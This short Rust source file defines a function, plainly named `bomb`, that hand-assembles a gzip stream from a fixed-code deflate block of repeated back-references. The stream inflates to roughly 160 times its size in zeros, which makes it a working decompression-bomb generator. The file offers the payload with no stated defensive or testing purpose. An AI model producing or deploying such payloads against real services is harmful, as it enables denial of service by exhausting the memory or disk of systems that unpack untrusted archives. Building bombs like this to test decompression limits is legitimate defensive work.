//! A little that becomes much once it is unpacked.

/// `size` bytes of gzip (RFC 1952, 1951), give or take a few, that unpack to a hundred and sixty times as many zeros.
pub fn bomb(size: usize) -> Vec<u8> {
    let mut bits = Bits { bytes: vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff], free: 0 };
    // The last block, with the fixed codes.
    bits.push(0b1, 1);
    bits.push(0b01, 2);
    // A zero, literally: 00110000, codes with their most significant bit first.
    bits.push(0b0000_1100, 8);
    while bits.bytes.len() < size {
        // "258 times what lies one back": 11000101 for the length, 00000 for the distance.
        bits.push(0b1010_0011, 8);
        bits.push(0, 5);
    }
    bits.push(0, 7);
    bits.bytes
}

/// The least significant bit is filled first.
struct Bits {
    bytes: Vec<u8>,
    /// Of the last byte.
    free: u8,
}

impl Bits {
    fn push(&mut self, bits: u8, count: u8) {
        for at in 0..count {
            if self.free == 0 {
                self.bytes.push(0);
                self.free = 8;
            }
            let bit = (bits >> at & 1) << (8 - self.free);
            *self.bytes.last_mut().expect("a byte was pushed") |= bit;
            self.free -= 1;
        }
    }
}
